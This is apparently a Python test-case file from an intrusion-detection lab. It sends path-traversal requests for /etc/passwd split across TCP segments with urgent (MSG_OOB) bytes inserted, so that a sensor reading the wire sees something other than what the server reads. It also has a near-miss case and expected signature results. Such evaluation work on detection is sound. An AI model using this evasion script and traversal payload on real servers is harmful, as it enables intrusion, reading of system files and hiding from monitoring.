"""The same attack, sent so that a sensor that reads the wire otherwise than the server does not see it."""
import webserver
from cases import case

# Each line of a script is one send(); "!" before it: with MSG_OOB, so that its last byte is urgent.
SEND = """import socket, sys, time
one = socket.create_connection(("10.20.0.80", 80))
one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for part in sys.argv[1:]:
    urgent = part.startswith("!")
    one.send(part.lstrip("!").encode().decode("unicode_escape").encode(), socket.MSG_OOB if urgent else 0)
    time.sleep(0.05)
print(one.recv(65536).decode(errors="replace")[:40])
one.close()
"""
END = r"' HTTP/1.1\r\nHost: www.shop.example\r\nConnection: close\r\n\r\n'"


def send(lab, *parts):
    lab.run("sk-c", f"/usr/bin/python3 {lab.write('send.py', SEND)} {' '.join(parts)} {END}")


def begin(lab):
    lab.edge()
    webserver.start(lab)
    lab.capture()


@case("urgent_evasion", webserver.PACKAGES, ["`1900024` and `1900027` in all three requests: the server reads `/download.php?file=../../../../etc/passwd`, since the urgent byte is handed over out of band."])
def urgent_evasion(lab):
    """Path traversal with a byte of urgent data in the middle of the words a signature looks for; the server does not read that byte and gives the file away."""
    begin(lab)
    send(lab, "'GET /download.php?file=../../../../etc/pas'", "'!X'", "'swd'")
    send(lab, "'!GET /download.php?file=../../../../etc/pasX'", "'swd'")
    send(lab, "'GET /download.php?file=.'", "'!Y'", "'./../../../e'", "'!tX'", "'c/pa'", "'!Z'", "'sswd'")


@case("urgent_nearmiss", webserver.PACKAGES, ["Nothing: without its urgent byte the first request asks for `/etc/paswd`, and the second goes nowhere up."])
def urgent_nearmiss(lab):
    """The near miss of urgent data: what reads like an attack on the wire is none at the server."""
    begin(lab)
    send(lab, "'GET /download.php?file=/etc/pa'", "'!s'", "'swd'")
    send(lab, "'GET /docs/'", "'!.'", "'./terms.txt'")
